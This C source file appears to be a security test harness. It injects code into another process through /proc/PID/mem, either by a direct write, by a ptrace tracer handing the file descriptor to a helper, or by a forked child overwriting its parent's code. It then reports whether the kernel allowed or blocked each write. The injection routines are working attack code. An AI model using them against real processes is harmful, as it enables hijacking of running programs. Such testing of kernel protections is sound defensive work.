/* Cross-process code injection through /proc/PID/mem, run to its effect.
 *
 *   attack inject VICTIM    a same-uid process that is not a tracer opens
 *                           the victim's mem file and writes the payload
 *                           over the victim's code
 *   attack handoff VICTIM   a tracer opens the mem file and passes the fd
 *                           over SCM_RIGHTS to a process that is not a
 *                           tracer, which writes the payload
 *   attack forkedtracer     the forked-tracer attack:
 *                           a process writes its own read-only text as
 *                           its child's tracee.  It forks, lets the child
 *                           attach (PR_SET_PTRACER, as Yama's scope 1
 *                           wants; without Yama the prctl fails and is
 *                           not needed), the child PTRACE_ATTACHes to its
 *                           parent, opens /proc/PARENT/mem and writes the
 *                           payload over the parent's code, detaches;
 *                           the parent then calls that code.  `ptrace`
 *                           levels allow it by design: only `never` stops
 *                           it.  The parent is the victim here.
 *
 * Victim and attackers run as uid/gid 65534.  The last line is
 * "=> allowed ..." when the payload ran (the victim exited 42 and the
 * marker file /tmp/compat-pwned says "pwned"), "=> blocked ..." when the
 * write was refused and the victim was still running its own code 300 ms
 * later (no marker), else "=> error ...". */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <inttypes.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "scm.h"

#define MARKER "/tmp/compat-pwned"
#define NOBODY 65534

extern const unsigned char payload_start[];
extern const unsigned long payload_size;

static char why[256] = "no error seen";

static void drop_privileges(void)
{
	if (getuid() == 0 && (setgroups(0, NULL) || setresgid(NOBODY, NOBODY, NOBODY) ||
			      setresuid(NOBODY, NOBODY, NOBODY))) {
		perror("attack: drop privileges");
		exit(2);
	}
}

/* Start the victim with its stdout on a pipe; return its pid, set *addr. */
static pid_t spawn_victim(const char *path, uintptr_t *addr)
{
	int p[2];
	char line[64];
	FILE *f;
	pid_t pid;

	if (pipe(p)) {
		perror("attack: pipe");
		exit(2);
	}
	pid = fork();
	if (pid < 0) {
		perror("attack: fork");
		exit(2);
	}
	if (pid == 0) {
		drop_privileges();
		dup2(p[1], 1);
		close(p[0]);
		close(p[1]);
		execl(path, path, (char *)NULL);
		_exit(127);
	}
	close(p[1]);
	f = fdopen(p[0], "r");
	if (!f || !fgets(line, sizeof(line), f) || sscanf(line, "%" SCNxPTR, addr) != 1) {
		fprintf(stderr, "attack: no address from victim\n");
		exit(2);
	}
	fclose(f);
	return pid;
}

/* Write the payload at addr through fd; record why not. */
static int write_payload(int fd, uintptr_t addr)
{
	size_t len = (size_t)payload_size;
	ssize_t n = pwrite(fd, payload_start, len, (off_t)addr);

	if (n == (ssize_t)len)
		return 0;
	snprintf(why, sizeof(why), "write: %s", n < 0 ? strerror(errno) : "short");
	return -1;
}

static int open_mem(pid_t pid)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
	fd = open(path, O_RDWR);
	if (fd < 0)
		snprintf(why, sizeof(why), "open: %s", strerror(errno));
	return fd;
}

static int inject(pid_t victim, uintptr_t addr)
{
	int fd = open_mem(victim);

	if (fd < 0)
		return -1;
	int rc = write_payload(fd, addr);
	close(fd);
	return rc;
}

/* The tracer attaches and opens; a forked helper, which is not a tracer,
 * receives the fd and writes; then the tracer lets the victim go. */
static int handoff(pid_t victim, uintptr_t addr)
{
	int sv[2], st, fd;
	pid_t writer;

	if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv)) {
		perror("attack: socketpair");
		exit(2);
	}
	writer = fork();
	if (writer == 0) {
		close(sv[0]);
		fd = recv_fd(sv[1]);
		if (fd < 0) {
			fprintf(stderr, "attack: writer got no fd\n");
			_exit(3);
		}
		/* Tell the tracer how it went: "ok" or the reason. */
		if (write_payload(fd, addr) == 0)
			strcpy(why, "ok");
		if (write(sv[1], why, strlen(why)) < 0)
			_exit(1);
		_exit(0);
	}
	close(sv[1]);
	if (ptrace(PTRACE_ATTACH, victim, 0, 0) || waitpid(victim, &st, 0) != victim) {
		snprintf(why, sizeof(why), "attach: %s", strerror(errno));
		kill(writer, SIGKILL);
		waitpid(writer, NULL, 0);
		return -1;
	}
	fd = open_mem(victim);
	if (fd >= 0) {
		char said[sizeof(why)] = "";

		send_fd(sv[0], fd);
		close(fd);
		if (read(sv[0], said, sizeof(said) - 1) <= 0)
			strcpy(said, "writer said nothing");
		snprintf(why, sizeof(why), "%s%s", strcmp(said, "ok") ? "writer's " : "", said);
	} else {
		kill(writer, SIGKILL);
	}
	close(sv[0]);
	waitpid(writer, &st, 0);
	ptrace(PTRACE_DETACH, victim, 0, 0);
	return fd >= 0 && strcmp(why, "ok") == 0 ? 0 : -1;
}

static int marker_says_pwned(void)
{
	char buf[16] = "";
	int fd = open(MARKER, O_RDONLY);

	if (fd < 0)
		return 0;
	ssize_t n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	return n > 0 && strcmp(buf, "pwned\n") == 0;
}

/*
 * The forked-tracer attack's target: a page of its own in the text, so
 * that the payload written over it overwrites no other code.
 */
__asm__(".pushsection .text.forkedtracer, \"ax\", @progbits\n"
	".p2align 12\n"
	"forkedtracer_tick: ret\n"
	".fill 4095, 1, 0xcc\n"
	".popsection\n");
extern void forkedtracer_tick(void);

static ssize_t read_full(int fd, void *buf, size_t len)
{
	ssize_t n;

	do
		n = read(fd, buf, len);
	while (n < 0 && errno == EINTR);
	return n;
}

/* The child: attach to the parent, write the payload over its tick, detach. */
static _Noreturn void forked_tracer(pid_t parent, int go, int said)
{
	uintptr_t addr = (uintptr_t)forkedtracer_tick;
	char c;
	int st, fd;

	if (read_full(go, &c, 1) != 1)
		_exit(3);
	if (ptrace(PTRACE_ATTACH, parent, 0, 0) || waitpid(parent, &st, __WALL) != parent) {
		snprintf(why, sizeof(why), "attach: %s", strerror(errno));
	} else {
		fd = open_mem(parent);
		if (fd >= 0) {
			if (write_payload(fd, addr) == 0)
				strcpy(why, "ok");
			close(fd);
		}
		ptrace(PTRACE_DETACH, parent, 0, 0);
	}
	if (write(said, why, strlen(why)) < 0)
		_exit(1);
	_exit(0);
}

/*
 * The parent, as uid 65534: lets its child attach and write, then calls
 * its tick a few times (the payload exits 42 from there); writes why not
 * to @report and exits 0.
 */
static _Noreturn void forkedtracer(int report)
{
	void (*volatile tick)(void) = forkedtracer_tick;
	const struct timespec pause = { 0, 20 * 1000 * 1000 };
	int go[2], said[2];
	char heard[sizeof(why)] = "";
	pid_t child;

	/* A process that dropped privileges is not dumpable until told. */
	if (prctl(PR_SET_DUMPABLE, 1) || pipe(go) || pipe(said)) {
		perror("attack: forkedtracer setup");
		_exit(2);
	}
	child = fork();
	if (child < 0) {
		perror("attack: fork");
		_exit(2);
	}
	if (child == 0) {
		close(go[1]);
		close(said[0]);
		forked_tracer(getppid(), go[0], said[1]);
	}
	close(go[0]);
	close(said[1]);
	/* Yama scope 1 lets only a declared process attach; no Yama: EINVAL. */
	if (prctl(PR_SET_PTRACER, child, 0, 0, 0) && errno != EINVAL) {
		perror("attack: PR_SET_PTRACER");
		_exit(2);
	}
	if (write(go[1], "", 1) != 1 || read_full(said[0], heard, sizeof(heard) - 1) <= 0)
		strcpy(heard, "the child said nothing");
	waitpid(child, NULL, 0);
	for (int i = 0; i < 10; i++) {
		tick();
		nanosleep(&pause, NULL);
	}
	/* still here: the payload did not run */
	snprintf(why, sizeof(why), "%s%s", strcmp(heard, "ok") ? "child's " : "", heard);
	if (write(report, why, strlen(why)) < 0)
		_exit(1);
	_exit(0);
}

/* Run the forked-tracer attack in a process of its own: its verdict line. */
static int run_forkedtracer(void)
{
	char heard[sizeof(why)] = "";
	int p[2], st;
	pid_t pid;

	if (pipe(p)) {
		perror("attack: pipe");
		return 2;
	}
	pid = fork();
	if (pid < 0) {
		perror("attack: fork");
		return 2;
	}
	if (pid == 0) {
		close(p[0]);
		drop_privileges();
		forkedtracer(p[1]);
	}
	close(p[1]);
	if (read_full(p[0], heard, sizeof(heard) - 1) < 0)
		strcpy(heard, "read");
	if (waitpid(pid, &st, 0) != pid) {
		perror("attack: waitpid");
		return 2;
	}
	if (WIFEXITED(st) && WEXITSTATUS(st) == 42 && marker_says_pwned())
		printf("=> allowed: payload ran in the parent, written by its child as its tracer\n");
	else if (WIFEXITED(st) && WEXITSTATUS(st) == 0 && heard[0] && !marker_says_pwned())
		printf("=> blocked: %s\n", heard);
	else
		printf("=> error: parent status %#x, %s\n", st, heard[0] ? heard : "nothing said");
	return 0;
}

int main(int argc, char **argv)
{
	uintptr_t addr;
	pid_t victim;
	int st, rc;

	if (argc == 2 && !strcmp(argv[1], "forkedtracer")) {
		if (unlink(MARKER) && errno != ENOENT) {
			perror("attack: " MARKER);
			return 2;
		}
		return run_forkedtracer();
	}
	if (argc != 3 || (strcmp(argv[1], "inject") && strcmp(argv[1], "handoff"))) {
		fprintf(stderr, "usage: attack inject|handoff VICTIM | attack forkedtracer\n");
		return 2;
	}
	if (unlink(MARKER) && errno != ENOENT) {
		perror("attack: " MARKER);
		return 2;
	}
	victim = spawn_victim(argv[2], &addr);
	drop_privileges();
	rc = strcmp(argv[1], "inject") ? handoff(victim, addr) : inject(victim, addr);
	if (rc == 0) {
		snprintf(why, sizeof(why), "payload written at %#" PRIxPTR, addr);
	} else {
		/* Refused: let the victim tick a while longer, then stop it.  It
		 * must still be alive (killed by our SIGTERM), with no marker. */
		const struct timespec pause = { 0, 300 * 1000 * 1000 };

		nanosleep(&pause, NULL);
		kill(victim, SIGTERM);
	}
	if (waitpid(victim, &st, 0) != victim) {
		perror("attack: waitpid");
		return 2;
	}
	if (WIFEXITED(st) && WEXITSTATUS(st) == 42 && marker_says_pwned())
		printf("=> allowed: payload ran in the victim (%s)\n", why);
	else if (WIFSIGNALED(st) && WTERMSIG(st) == SIGTERM && rc && !marker_says_pwned())
		printf("=> blocked: %s\n", why);
	else
		printf("=> error: victim status %#x, %s\n", st, why);
	return 0;
}
